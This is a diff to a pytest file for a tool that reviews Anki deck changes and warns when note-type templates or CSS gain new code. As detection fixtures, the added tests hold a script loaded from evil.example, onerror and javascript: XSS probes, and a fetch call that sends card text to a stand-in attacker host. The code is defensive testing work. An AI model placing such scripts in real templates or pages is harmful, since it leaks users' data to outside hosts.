@@ -53,8 +53,14 @@ def test_template_and_css_changes_are_unified_diffs_and_new_code_is_a_warning(re
         ".card { font-size: 30px; text-align: center; }\n", encoding="utf-8"
     )
     out = diff("HEAD")
-    assert "- **New code in a note type** `vocab`: a <script> element in template 'Recall' back." in out
-    assert "- **New code in a note type** `vocab`: an external URL in template 'Recall' back." in out
+    assert (
+        "- **New code in a note type** `vocab`: a <script> element in template 'Recall' back: "
+        '`<script src="https://evil.example/x.js">`. Templates and CSS run in every learner\'s Anki;'
+    ) in out
+    assert (
+        "- **New code in a note type** `vocab`: an external URL in template 'Recall' back: "
+        '`<script src="https://evil.example/x.js">`.'
+    ) in out
     assert (
         "#### Changed note type `vocab` (Chinese vocabulary)\n\n"
         "- **template 'Recall' back:**\n\n"
@@ -118,13 +124,17 @@ def test_an_added_note_type_is_shown_in_full_and_its_code_and_given_id_are_warni
     (repo / "cards" / "deck.yaml").write_text(DECK + ADDED, encoding="utf-8")
     result = run("diff", "--format", "json", "HEAD")
     assert result.exit_code == 0, result.output
-    warnings = [(w["type"], w["new"]) for w in json.loads(result.stdout)["warnings"]]
+    warnings = [(w["type"], w["new"], w["old"]) for w in json.loads(result.stdout)["warnings"]]
     assert warnings == [
-        ("notetype-explicit-id", "1863452013"),
-        ("notetype-code", "an event handler attribute (on...=) in template 'Card 1' front"),
-        ("notetype-code", "a javascript: URL in template 'Card 1' front"),
-        ("notetype-code", "an external URL in template 'Card 1' front"),
-        ("notetype-code", "an external URL in css"),
+        ("notetype-explicit-id", "1863452013", None),
+        (
+            "notetype-code",
+            "an event handler attribute (on...=) in template 'Card 1' front (and 1 more)",
+            '<img onerror="alert(1)">',
+        ),
+        ("notetype-code", "a javascript: URL in template 'Card 1' front", '<a href="javascript:alert(3)">'),
+        ("notetype-code", "an external URL in template 'Card 1' front", '<img srcset="https://evil.example/t.png 1x">'),
+        ("notetype-code", "an external URL in css", "https://evil.example/t.png"),
     ]
     out = diff("HEAD")
     assert (
@@ -159,3 +169,61 @@ def test_a_long_added_template_is_cut_with_a_note(repo: Path) -> None:
         in out
     )
     assert "given id" not in out and "given in deck.yaml" not in out
+
+
+SCRIPT_FRONT = '<div>{{{{English}}}}</div><script src="{src}"></script><script>{body}</script>\n'
+CDN = "https://cdn.jsdelivr.net/npm/mathjax@3/es5/tex-mml-chtml.js"
+READY = "document.body.dataset.ready = 1;"
+
+
+def _front(repo: Path, src: str = CDN, body: str = READY, commit: Git | None = None) -> None:
+    (repo / "cards" / "note-types" / "recall-front.html").write_text(
+        SCRIPT_FRONT.format(src=src, body=body), encoding="utf-8"
+    )
+    if commit is not None:
+        commit("commit", "-qam", "a template with code")
+
+
+def _code_warnings(out: str) -> list[str]:
+    return [line for line in out.splitlines() if line.startswith("- **New code in a note type**")]
+
+
+@pytest.mark.parametrize(
+    ("src", "body", "expected"),
+    [
+        (
+            "https://evil.example/x.js",
+            READY,
+            [
+                "a <script> element in template 'Recall' front: `<script src=\"https://evil.example/x.js\">`.",
+                "an external URL in template 'Recall' front: `<script src=\"https://evil.example/x.js\">`.",
+            ],
+        ),
+        (
+            CDN,
+            'fetch("https://evil.example/c?"+document.body.innerText)',
+            [
+                "a <script> element in template 'Recall' front: "
+                '`<script>fetch("https://evil.example/c?"+document.body.innerText)`.'
+            ],
+        ),
+    ],
+)
+def test_code_changed_in_place_is_new_code(repo: Path, git_repo: Git, src: str, body: str, expected: list[str]) -> None:
+    """Hostile review C8: a script's address swapped or its text rewritten kept the count of scripts, handlers and
+    URLs, and the diff warned of nothing; each code item is now compared with the old revision's."""
+    _front(repo, commit=git_repo)
+    _front(repo, src=src, body=body)
+    warnings = _code_warnings(diff("HEAD"))
+    assert len(warnings) == len(expected), warnings
+    for line, text in zip(warnings, expected, strict=True):
+        assert line.startswith("- **New code in a note type** `vocab`: " + text), line
+
+
+def test_unchanged_code_beside_a_changed_template_is_no_new_code(repo: Path, git_repo: Git) -> None:
+    _front(repo, commit=git_repo)
+    front = repo / "cards" / "note-types" / "recall-front.html"
+    front.write_text("<h1>Recall</h1>" + front.read_text(encoding="utf-8"), encoding="utf-8")
+    out = diff("HEAD")
+    assert "+<h1>Recall</h1><div>{{English}}</div>" in out  # the change is shown
+    assert _code_warnings(out) == []
